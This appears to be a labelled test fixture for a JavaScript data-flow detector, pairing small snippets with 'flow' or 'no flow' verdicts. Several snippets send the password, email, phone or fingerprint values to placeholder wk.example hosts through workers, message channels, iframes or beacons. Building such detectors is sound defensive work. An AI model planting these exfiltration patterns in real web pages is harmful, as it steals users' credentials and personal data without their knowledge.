//# blob-worker
// flow: password > blob.wk.example via fetch
const src = 'onmessage = (e) => fetch("https://blob.wk.example/w", { method: "POST", body: e.data });';
const w = new Worker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
w.postMessage(document.querySelector('input[type=password]').value);

//# blob-worker-computes
// no flow
// why: the worker sends its result back to the page only
const code = 'onmessage = (e) => postMessage(e.data.split("").reverse().join(""));';
const wk = new Worker(URL.createObjectURL(new Blob([code])));
wk.onmessage = (e) => { document.querySelector('#out').textContent = e.data; };
wk.postMessage(document.querySelector('textarea[name=message]').value);

//# worker-from-function
// flow: device > fn.wk.example via xhr
function body() {
  self.onmessage = function (e) {
    var x = new XMLHttpRequest();
    x.open('POST', 'https://fn.wk.example/w');
    x.send(JSON.stringify(e.data.fp));
  };
}
var blob = new Blob(['(' + body.toString() + ')()'], { type: 'application/javascript' });
new Worker(URL.createObjectURL(blob)).postMessage({ fp: [navigator.userAgent, screen.width, devicePixelRatio] });

//# worker-other-field
// no flow
// why: the worker forwards the kind of the message, not its text
const s2 = 'onmessage = function (e) { fetch("https://kind.wk.example/k?" + e.data.kind); };';
const w2 = new Worker(URL.createObjectURL(new Blob([s2])));
w2.postMessage({ kind: 'note', text: document.querySelector('textarea[name=message]').value });

//# worker-round-trip
// flow: username > trip.wk.example via fetch
const js = 'onmessage = (e) => postMessage("u:" + e.data);';
const rt = new Worker(URL.createObjectURL(new Blob([js])));
rt.onmessage = (e) => fetch('https://trip.wk.example/t', { method: 'POST', body: e.data });
rt.postMessage(document.querySelector('input[name=username]').value);

//# worker-url-query
// flow: identifier > self via worker
new Worker('/js/w.js?uid=' + encodeURIComponent(localStorage.getItem('uid')));

//# worker-terminated
// no flow
// why: nothing is posted to the worker; the text stays on the page
const idle = new Worker(URL.createObjectURL(new Blob(['onmessage = (e) => fetch("https://idle.wk.example/", { method: "POST", body: e.data });'])));
const typed = document.querySelector('textarea[name=message]').value;
document.querySelector('#copy').textContent = typed;
idle.terminate();

//# message-channel
// flow: email > chan.wk.example via fetch
const { port1, port2 } = new MessageChannel();
port2.onmessage = ({ data }) => fetch('https://chan.wk.example/c', { method: 'POST', body: data.email });
port1.postMessage({ email: document.querySelector('input[type=email]').value });

//# message-channel-not-started
// no flow
// why: with addEventListener a port delivers only after start(), which is never called
const ch = new MessageChannel();
ch.port2.addEventListener('message', (e) => fetch('https://nostart.wk.example/c', { method: 'POST', body: e.data }));
ch.port1.postMessage(document.querySelector('input[type=email]').value);

//# broadcast-channel
// flow: search > bc.wk.example via beacon
const out = new BroadcastChannel('q');
const inn = new BroadcastChannel('q');
inn.onmessage = (e) => navigator.sendBeacon('https://bc.wk.example/b', e.data);
document.querySelector('input[type=search]').onchange = (e) => out.postMessage(e.target.value);

//# broadcast-other-name
// no flow
// why: the two channels have different names
const tx = new BroadcastChannel('drafts');
const rx = new BroadcastChannel('events');
rx.onmessage = (e) => navigator.sendBeacon('https://bcno.wk.example/b', e.data);
tx.postMessage(document.querySelector('textarea[name=message]').value);

//# broadcast-constant
// no flow
// why: only a constant goes through the channel
const own = new BroadcastChannel('own');
own.onmessage = (e) => navigator.sendBeacon('https://bcself.wk.example/b', e.data.id + '');
own.postMessage({ id: 1 });
console.log(document.querySelector('input[type=password]').value.length);

//# iframe-srcdoc
// flow: phone > doc.wk.example via fetch
const fr = document.createElement('iframe');
fr.srcdoc = '<script>function take(v) { fetch("https://doc.wk.example/f", { method: "POST", body: v }); }</' + 'script>';
fr.onload = () => fr.contentWindow.take(document.querySelector('input[type=tel]').value);
document.body.append(fr);

//# iframe-answer-to-opener
// flow: identifier > shop.wk.example via postmessage
// why: near miss: the listener answers with the id, the typed card number is not in the answer
addEventListener('message', (e) => {
  if (e.origin !== 'https://shop.wk.example') return;
  const card = document.querySelector('input[autocomplete=cc-number]').value;
  e.source.postMessage({ id: localStorage.getItem('sid'), has: card.length > 0 }, 'https://shop.wk.example');
});

//# service-worker-register
// flow: identifier > self via serviceworker
navigator.serviceWorker.register('/sw.js?vid=' + localStorage.getItem('vid'), { scope: '/' });

//# service-worker-plain
// no flow
navigator.serviceWorker.register('/sw.js').then(() => { document.querySelector('#st').textContent = navigator.userAgent; });

//# window-message-ignored-type
// no flow
// why: the listener sends only what has the type ping
addEventListener('message', (e) => { if (e.data.type === 'ping') fetch('https://ign.wk.example/p', { method: 'POST', body: e.data.type }); });
window.postMessage({ type: 'draft', text: document.querySelector('textarea[name=message]').value }, location.origin);

//# port-closed
// no flow
// why: the port that sends is closed before it posts
const mc = new MessageChannel();
mc.port2.onmessage = (e) => fetch('https://closed.wk.example/c', { method: 'POST', body: e.data });
mc.port1.close();
mc.port1.postMessage(document.querySelector('input[type=email]').value);
